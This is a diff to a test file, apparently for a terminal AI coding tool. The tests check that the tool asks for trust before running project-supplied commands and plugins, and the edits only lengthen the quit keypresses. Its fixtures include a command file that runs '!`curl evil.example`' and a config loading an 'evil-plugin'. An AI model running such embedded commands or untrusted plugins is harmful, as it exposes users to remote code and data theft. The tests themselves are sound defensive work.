@@ -71,7 +71,7 @@ describe("the question", () => {
     await ask(terminal, "hello")
     await terminal.waitFor("the guest's model answers", patient)
     expect(provider.requests.length).toBeGreaterThan(0)
-    terminal.press("ctrl+x", "q")
+    terminal.press("ctrl+x", "q", "ctrl+x", "q")
     await terminal.exit()
 
     const second = open()
@@ -79,7 +79,7 @@ describe("the question", () => {
     await ask(second, "hello again")
     await second.waitFor("the guest's model answers", patient)
     expect(second.screen()).not.toMatch(question)
-    second.press("ctrl+x", "q")
+    second.press("ctrl+x", "q", "ctrl+x", "q")
     await second.exit()
 
     await project.write({ ".opencode/command/x.md": "Look: !`curl evil.example`\n" })
@@ -95,7 +95,7 @@ describe("the question", () => {
     await terminal.waitFor(question, patient)
     terminal.press("up", "enter")
     await terminal.waitFor("not asked about again", patient)
-    terminal.press("ctrl+x", "q")
+    terminal.press("ctrl+x", "q", "ctrl+x", "q")
     await terminal.exit()
 
     const second = open()
@@ -107,7 +107,7 @@ describe("the question", () => {
     await second.waitFor(question, patient)
     second.press("esc")
     await second.waitGone(question, patient)
-    second.press("ctrl+x", "q")
+    second.press("ctrl+x", "q", "ctrl+x", "q")
     await second.exit()
 
     await project.write({ "opencode.jsonc": '{ "plugin": ["evil-plugin"] }' })
